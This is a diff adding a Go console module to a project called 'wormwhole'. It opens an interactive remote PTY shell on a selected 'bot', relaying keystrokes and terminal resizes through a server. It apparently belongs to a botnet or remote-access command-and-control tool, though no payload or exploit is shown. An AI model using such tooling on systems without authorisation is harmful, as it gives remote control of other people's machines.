@@ -0,0 +1,159 @@
+package console
+
+import (
+	"bytes"
+	"fmt"
+	"github.com/fatih/color"
+	"github.com/xorium/wormwhole/core"
+	"github.com/xorium/wormwhole/server"
+	"golang.org/x/sys/unix"
+	"log"
+	"os"
+	"os/signal"
+	"sync"
+	"time"
+)
+
+// sessionCloseKey is Ctrl-], the key closing the attached PTY session.
+const sessionCloseKey = 0x1d
+
+type ptySession struct {
+	cmd  *core.Command
+	done chan struct{}
+	once *sync.Once
+}
+
+func (s *ptySession) finish() {
+	s.once.Do(func() { close(s.done) })
+}
+
+func (c *Console) currentSession() *ptySession {
+	c.RLock()
+	defer c.RUnlock()
+	return c.session
+}
+
+func (c *Console) finishSession(sessionId string) {
+	if session := c.currentSession(); session != nil && session.cmd.ID == sessionId {
+		session.finish()
+	}
+}
+
+func (c *Console) ShellCmdHandler(_ []string) error {
+	c.RLock()
+	currBot := c.currentBot
+	c.RUnlock()
+	if currBot == nil {
+		return fmt.Errorf("bot is unselected")
+	}
+	stdinFd := int(os.Stdin.Fd())
+	if !isTerminal(stdinFd) {
+		return fmt.Errorf("stdin is not a terminal")
+	}
+
+	rows, cols, err := terminalSize(int(os.Stdout.Fd()))
+	if err != nil && c.Debug {
+		log.Println("can't get terminal size: ", err)
+	}
+	session := &ptySession{
+		cmd:  server.ShellCommand(os.Getenv("TERM"), rows, cols),
+		done: make(chan struct{}),
+		once: new(sync.Once),
+	}
+	c.Lock()
+	c.session = session
+	c.Unlock()
+	defer func() {
+		c.Lock()
+		c.session = nil
+		c.currentState = stateReady
+		c.foregroundCmd = ""
+		c.Unlock()
+	}()
+	if err := c.executeCommand(session.cmd, currBot); err != nil {
+		return err
+	}
+
+	color.HiYellow("[*] shell session started, press Ctrl-] to close it")
+	oldState, err := makeRaw(stdinFd)
+	if err != nil {
+		_ = c.srv.CancelCommand(session.cmd.ID)
+		return fmt.Errorf("can't switch terminal to raw mode: %v", err)
+	}
+	stopResizing := c.forwardWindowSize(session.cmd.ID)
+	c.attachSession(stdinFd, session)
+	stopResizing()
+	_ = restoreTerminal(stdinFd, oldState)
+	color.HiYellow("\n[*] shell session closed")
+	return nil
+}
+
+// attachSession sends the terminal input to the session until it's
+// finished or detached.
+func (c *Console) attachSession(stdinFd int, session *ptySession) {
+	buf := make([]byte, 4096)
+	for {
+		select {
+		case <-session.done:
+			return
+		default:
+		}
+		ready, err := waitInput(stdinFd, 100*time.Millisecond)
+		if err != nil {
+			log.Println("error while waiting for terminal input: ", err)
+			_ = c.srv.CancelCommand(session.cmd.ID)
+			return
+		}
+		if !ready {
+			continue
+		}
+		n, err := os.Stdin.Read(buf)
+		if err != nil || n == 0 {
+			_ = c.srv.CancelCommand(session.cmd.ID)
+			return
+		}
+
+		input := buf[:n]
+		closing := bytes.IndexByte(input, sessionCloseKey)
+		if closing >= 0 {
+			input = input[:closing]
+		}
+		if len(input) > 0 {
+			if err := c.srv.SendSessionInput(session.cmd.ID, input); err != nil {
+				color.HiRed("\r\nshell session input error: %v\r", err)
+				_ = c.srv.CancelCommand(session.cmd.ID)
+				return
+			}
+		}
+		if closing >= 0 {
+			_ = c.srv.CancelCommand(session.cmd.ID)
+			return
+		}
+	}
+}
+
+func (c *Console) forwardWindowSize(sessionId string) (stop func()) {
+	sigChan := make(chan os.Signal, 1)
+	quit := make(chan struct{})
+	signal.Notify(sigChan, unix.SIGWINCH)
+	go func() {
+		for {
+			select {
+			case <-quit:
+				return
+			case <-sigChan:
+			}
+			rows, cols, err := terminalSize(int(os.Stdout.Fd()))
+			if err != nil {
+				continue
+			}
+			if err := c.srv.ResizeSession(sessionId, rows, cols); err != nil && c.Debug {
+				log.Println("can't resize session: ", err)
+			}
+		}
+	}()
+	return func() {
+		signal.Stop(sigChan)
+		close(quit)
+	}
+}